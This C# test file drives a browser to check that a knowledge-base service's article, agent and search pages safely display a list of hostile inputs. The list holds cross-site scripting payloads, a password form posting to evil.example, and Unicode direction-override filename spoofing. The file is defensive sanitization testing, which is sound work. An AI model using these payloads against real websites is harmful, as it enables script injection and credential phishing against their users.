using System.Net.Http.Json;
using System.Text.Json;
using Microsoft.Playwright;

namespace KnowledgeBase.Tests.Api;

[Collection(Service_tests.Name)]
public sealed class Hostile_texts(Running_service service, Browser browser)
{
    internal static readonly string[] Texts =
    [
        "<script>window.pwned=1</script>",
        "<img src=x onerror=window.pwned=1>",
        "<svg onload=window.pwned=1>",
        "<a href=\"javascript:window.pwned=1\">x</a>",
        "[click](javascript:window.pwned=1)",
        "[click](JaVaScRiPt&colon;window.pwned=1)",
        "[click](data:text/html,<script>window.pwned=1</script>)",
        "![x](x\" onerror=\"window.pwned=1)",
        "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
        "<style>*{display:none}</style>",
        "<form action=https://evil.example><input name=password>",
        "<details open ontoggle=window.pwned=1>",
        "</textarea><script>window.pwned=1</script>",
        "</title></p></div></main><h1 onclick=window.pwned=1>",
        "\"'><option selected onfocus=window.pwned=1 autofocus>",
        "<!-- --!> <script>window.pwned=1</script> -->",
        "{onclick=window.pwned=1}\n\n# x {onmouseover=window.pwned=1}",
        "\u202Eevil txt.exe\u202C \u2066\u2067 left right",
        new string('w', 10_000),
        new string('>', 3000) + "[[[[((((" + new string('*', 3000),
    ];

    public static TheoryData<int> Numbers => [.. Enumerable.Range(0, Texts.Length)];

    [SkippableTheory]
    [MemberData(nameof(Numbers))]
    public async Task Do_no_harm_wherever_they_are_shown(int number)
    {
        string text = Texts[number], id = $"test/hostile-{number}";
        var asked = await service.Client.PostAsJsonAsync("/api/v1/questions", new { text = "EACCES " + text, subject = text.Length <= 500 ? text : text[..500], channel = "email" });
        long question = (await asked.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetInt64();
        var written = await service.Client.PostAsJsonAsync("/api/v1/articles", new { id, markdown = "Zebrafish hostile page.\n\n## A section\n\n" + text });
        Assert.True(written.IsSuccessStatusCode, await written.Content.ReadAsStringAsync());
        try
        {
            var page = await browser.NewPage(service.Client.BaseAddress!, width: 360, height: 740);
            var faults = new List<string>();
            page.Dialog += (_, dialog) => faults.Add(dialog.Message);
            page.PageError += (_, error) => faults.Add(error);
            page.Console += (_, message) =>
            {
                if (message.Type == "error")
                {
                    faults.Add(message.Text); // a refused inline script says so here
                }
            };
            string query = Uri.EscapeDataString(text.Length <= 1000 ? text : text[..1000]);
            foreach (string address in new[] { $"/articles/{id}", "/agent", $"/agent/{question}", $"/agent/{question}?open={id}", $"/search?q={query}", $"/ask?q={query}", "/articles" })
            {
                await page.GotoAsync(address, new() { WaitUntil = WaitUntilState.Load });
                Assert.True(await page.EvaluateAsync<bool>(
                    """
                    () => window.pwned === undefined && document.querySelector("main") !== null
                      && [...document.querySelectorAll("main *")].every(e => [...e.attributes].every(a => !a.name.startsWith("on") && a.name !== "style" && a.name !== "srcdoc") && !/^(javascript|data|vbscript):/i.test(e.href ?? ""))
                      && document.querySelectorAll("main script, main iframe, main style, main img, main object, main form[action^='http']").length === 0
                    """), $"{address} let something of {text[..Math.Min(40, text.Length)]} through.");
                Assert.True(await page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= innerWidth"), $"{address} is wider than the screen.");
            }

            Assert.Empty(faults);
            await page.Context.CloseAsync();
        }
        finally
        {
            await service.Client.DeleteAsync("/api/v1/articles/" + id);
            await service.Client.PostAsJsonAsync($"/api/v1/questions/{question}/escalate", new { queue = "test" });
        }
    }
}
